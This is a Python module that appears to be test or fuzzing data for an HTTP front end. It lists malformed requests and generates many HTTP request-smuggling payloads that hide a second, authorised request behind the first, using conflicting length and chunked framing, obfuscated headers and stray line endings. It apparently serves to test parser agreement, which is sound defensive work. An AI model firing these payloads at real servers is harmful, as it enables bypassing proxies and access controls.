"""Requests that two readers may read differently, so that one of them sees a request more."""

import itertools
from collections.abc import Iterator

START = b"POST /v1/completions?x=1 HTTP/1.1\r\nHost: a\r\n"


def lines(*more: bytes, start: bytes = START) -> bytes:
    return start + b"".join(line + b"\r\n" for line in more) + b"\r\n"


SMUGGLING = {
    "length and chunked": lines(b"Content-Length: 5", b"Transfer-Encoding: chunked"),
    "chunked and length": lines(b"Transfer-Encoding: chunked", b"Content-Length: 5"),
    "two lengths": lines(b"Content-Length: 5", b"Content-Length: 6"),
    "one length twice": lines(b"Content-Length: 5", b"Content-Length: 5"),
    "a list of lengths": lines(b"Content-Length: 5, 5"),
    "a signed length": lines(b"Content-Length: +5"),
    "a negative length": lines(b"Content-Length: -5"),
    "a length in hexadecimal": lines(b"Content-Length: 0x5"),
    "a length with a fraction": lines(b"Content-Length: 5.0"),
    "a length with an underscore": lines(b"Content-Length: 5_0"),
    "an empty length": lines(b"Content-Length:"),
    "an endless length": lines(b"Content-Length: 99999999999999999999999"),
    "two transfer encodings": lines(b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked"),
    "another transfer encoding": lines(b"Transfer-Encoding: gzip"),
    "a list of transfer encodings": lines(b"Transfer-Encoding: gzip, chunked"),
    "identity": lines(b"Transfer-Encoding: identity"),
    "nearly chunked": lines(b"Transfer-Encoding: xchunked"),
    "chunked in quotes": lines(b'Transfer-Encoding: "chunked"'),
    "chunked after a tab and a letter": lines(b"Transfer-Encoding: x\tchunked"),
    "space before the colon": lines(b"Content-Length : 5"),
    "tab before the colon": lines(b"Transfer-Encoding\t: chunked"),
    "no name": lines(b": 5"),
    "no colon": lines(b"Content-Length 5"),
    "folded": lines(b"X: a", b" b"),
    "folded length": lines(b"Content-Length:", b" 5"),
    "folded before any header": b"POST / HTTP/1.1\r\n Host: a\r\n\r\n",
    "bare LF": START + b"X: a\nContent-Length: 5\r\n\r\n",
    "bare CR": START + b"X: a\rContent-Length: 5\r\n\r\n",
    "bare LF after the first line": b"POST / HTTP/1.1\nHost: a\r\n\r\n",
    "a null in a value": lines(b"X: a\x00b"),
    "a control character in a value": lines(b"X: a\x01b"),
    "a null in a name": lines(b"X\x00: a"),
    "a letter beyond ASCII in a name": lines("Ä: a".encode()),
    "no host": lines(start=b"GET / HTTP/1.1\r\n"),
    "two hosts": lines(b"Host: b"),
    "HTTP/0.9": b"GET /\r\n\r\n",
    "HTTP/0.9 by name": lines(start=b"GET / HTTP/0.9\r\nHost: a\r\n"),
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\n",
    "HTTP/2 by name": lines(start=b"GET / HTTP/2.0\r\nHost: a\r\n"),
    "HTTP/1.2": lines(start=b"GET / HTTP/1.2\r\nHost: a\r\n"),
    "a space in the target": lines(start=b"GET /a b HTTP/1.1\r\nHost: a\r\n"),
    "a control character in the target": lines(start=b"GET /\x01 HTTP/1.1\r\nHost: a\r\n"),
    "a method in small letters": lines(start=b"get / HTTP/1.1\r\nHost: a\r\n"),
    "no method of anybody's": lines(start=b"FETCH / HTTP/1.1\r\nHost: a\r\n"),
    "HTTP/1.0 and chunked": lines(
        b"Transfer-Encoding: chunked", start=b"POST / HTTP/1.0\r\nHost: a\r\n"
    ),
    "another expectation": lines(b"Expect: 200-maybe"),
    "too many headers": lines(*[b"X-%d: 1" % number for number in range(101)]),
}


_CODINGS = (
    *(b"Transfer-Encoding: chunked", b"transfer-encoding: chunked", b"Transfer-Encoding:chunked"),
    *(
        b"Transfer-Encoding:  chunked",
        b"Transfer-Encoding: chunked ",
        b"Transfer-Encoding:\tchunked",
    ),
    *(
        b"Transfer-Encoding: Chunked",
        b"TRANSFER-ENCODING: CHUNKED",
        b"Transfer-Encoding: chunked\t",
    ),
    *(
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding\t: chunked",
        b" Transfer-Encoding: chunked",
    ),
    *(b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunk"),
    *(b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked"),
    *(b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: gzip, chunked"),
    *(b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: "),
    *(
        b"Transfer-Encoding: chunked;q=1",
        b"Transfer-Encoding: 'chunked'",
        b'Transfer-Encoding: "chunked"',
    ),
    *(
        b"Transfer-Encoding:\x0bchunked",
        b"Transfer-Encoding:\x0cchunked",
        b"Transfer-Encoding: \x00chunked",
    ),
    *(
        b"Transfer-Encoding: \xffchunked",
        b"Transfer-Encoding\x00: chunked",
        b"Transfer_Encoding: chunked",
    ),
    *(b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked"),
    *(b"X: y\x00\r\nTransfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked"),
    *(
        b"Transfer-Encoding: chun\r\n ked",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    ),
    *(
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Connection: transfer-encoding",
    ),
    *(b"Connection: content-length", b"Upgrade: h2c\r\nConnection: upgrade, http2-settings"),
    b"Trailer: content-length",
)
_SIZES = (
    *(b"%d", b"+%d", b"-%d", b"0%d", b"0x%d", b"%d.0", b"%d, %d", b"%d %d", b"%d;", b"%d\x00"),
    *(
        b"\x0b%d",
        b"%d_",
        b"'%d'",
        b"%d\r\nContent-Length: %d",
        b"%d\r\nContent-Length: 0",
        b"",
        b" ",
    ),
)
_CHUNK_LINES = (
    *(
        b"0",
        b"00",
        b"0;x=y",
        b"0 ",
        b"0\t",
        b" 0",
        b"+0",
        b"-0",
        b"0x0",
        b"0_",
        b"0\r",
        b"0;\n",
        b"0;a\nb",
    ),
    *(
        b"",
        b";",
        b"g",
        b"ffffffffffffffff1",
        b"10000000000000000",
        b"0,0",
        b"0\x00",
        b'0;x="',
        b"0;\r",
    ),
)


def attacks(target: str, key: str, hidden: bytes) -> Iterator[bytes]:
    """Requests by a client with a key, `hidden` behind them where a second reader may see it."""
    opening = b"POST %b HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer %b\r\n" % (
        *(target.encode(), key.encode()),
    )
    for coding, size in itertools.product(_CODINGS, (*_SIZES, None)):
        # Framed one way the body ends before the hidden request, the other way behind it.
        for body in (b"0\r\n\r\n" + hidden, b"%x\r\n%b\r\n0\r\n\r\n" % (len(hidden), hidden)):
            for length in (4, 5, len(body)):
                headers = [coding]
                if size is not None:
                    value = size.replace(b"%d", b"%d" % length)
                    headers.append(b"Content-Length: " + value)
                for order in (headers, headers[::-1]) if len(headers) > 1 else (headers,):
                    yield opening + b"\r\n".join(order) + b"\r\n\r\n" + body
                if size is None:
                    break
    chunked = opening + b"Transfer-Encoding: chunked\r\n\r\n"
    for line, end in itertools.product(_CHUNK_LINES, (b"\r\n", b"\n", b"\r", b"\r\r\n")):
        yield chunked + line + end + b"\r\n" + hidden
        yield chunked + b"2\r\n{}" + end + line + end + b"\r\n" + hidden
        yield chunked + b"2" + line[1:] + end + b"{}" + end + b"0\r\n\r\n" + hidden
    for trailer in (b"Content-Length: 5", b"Transfer-Encoding: chunked", b"X: y\n", b" X: y", b"X"):
        yield chunked + b"2\r\n{}\r\n0\r\n" + trailer + b"\r\n\r\n" + hidden
    for head in SMUGGLING.values():
        yield head + b"0\r\n\r\n" + hidden
